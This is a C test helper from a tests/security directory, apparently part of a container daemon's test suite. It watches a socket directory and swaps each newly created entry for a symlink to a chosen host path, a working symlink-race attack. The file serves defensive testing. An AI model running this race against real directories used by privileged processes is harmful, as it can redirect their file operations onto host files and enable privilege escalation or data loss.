/* symlink_racer: a hostile module watching its socket directory (tests/security).
 *
 * usage: symlink_racer DIR VICTIM [KEEP...]
 *
 * Watches DIR with inotify and, as soon as an entry appears that is not one of the KEEP names,
 * replaces it by a symlink to VICTIM (a host path: the daemon, not the container, resolves the
 * link) and prints the entry's name. Prints "ready" once it is watching. Built with gcc -static so
 * that it runs in a busybox container.
 */
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

static int kept(const char *name, int argc, char **argv) {
    for (int i = 3; i < argc; i++)
        if (strcmp(name, argv[i]) == 0)
            return 1;
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 3) {
        fprintf(stderr, "usage: %s DIR VICTIM [KEEP...]\n", argv[0]);
        return 2;
    }
    int watch = inotify_init1(0);
    if (watch < 0 || inotify_add_watch(watch, argv[1], IN_CREATE | IN_MOVED_TO) < 0) {
        perror("inotify");
        return 1;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("ready\n");
    char events[64 * 1024] __attribute__((aligned(__alignof__(struct inotify_event))));
    for (;;) {
        ssize_t got = read(watch, events, sizeof events);
        if (got <= 0) {
            perror("read");
            return 1;
        }
        const struct inotify_event *event;
        for (char *at = events; at < events + got; at += sizeof *event + event->len) {
            event = (const struct inotify_event *)at;
            if (event->len == 0 || kept(event->name, argc, argv))
                continue;
            char path[PATH_MAX];
            snprintf(path, sizeof path, "%s/%s", argv[1], event->name);
            struct stat info;
            if (lstat(path, &info) == 0 && S_ISLNK(info.st_mode))
                continue; /* a link of ours */
            unlink(path);
            rmdir(path);
            if (symlink(argv[2], path) != 0)
                perror("symlink");
            printf("%s\n", event->name);
        }
    }
}
